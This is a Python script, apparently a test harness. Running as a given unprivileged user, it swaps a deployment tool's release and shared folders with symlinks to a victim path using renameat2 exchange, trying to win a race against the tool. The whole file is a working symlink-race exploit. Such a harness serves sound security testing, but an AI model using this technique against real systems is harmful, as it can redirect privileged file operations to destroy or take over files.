"""Swaps folders for links to another folder, as fast as it can, until its input ends. Prints how many swaps there were.

usage: swapping-attacker.py UID APP_PATH VICTIM
"""

import ctypes
import os
import select
import sys

uid, app, victim = int(sys.argv[1]), sys.argv[2], sys.argv[3]
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
libc = ctypes.CDLL(None, use_errno=True)
HERE, EXCHANGE = -100, 2

links = {}


def link_for(name):
    """A link to the victim beside the app's folders, one for each name."""
    if name not in links:
        links[name] = os.path.join(app, ".link-" + name.replace("/", "-"))
        if os.path.lexists(links[name]):
            os.unlink(links[name])
        os.symlink(victim, links[name])
    return links[name]


def exchange(name):
    """Whether the folder and its link have changed places."""
    one, other = os.path.join(app, name).encode(), link_for(name).encode()
    return libc.renameat2(HERE, one, HERE, other, EXCHANGE) == 0


def names():
    try:
        inside = os.listdir(os.path.join(app, "releases"))
    except OSError:
        inside = []
    return ["releases", "shared"] + ["releases/" + each for each in inside if each.endswith((".unfinished", ".deleting"))]


swaps = 0
while not select.select([sys.stdin], [], [], 0)[0]:
    for name in names():
        # There and back: half of the time fraisier finds the link.
        if exchange(name):
            swaps += 1
            swaps += exchange(name)
for link in links.values():
    if os.path.islink(link):
        os.unlink(link)
print(swaps)
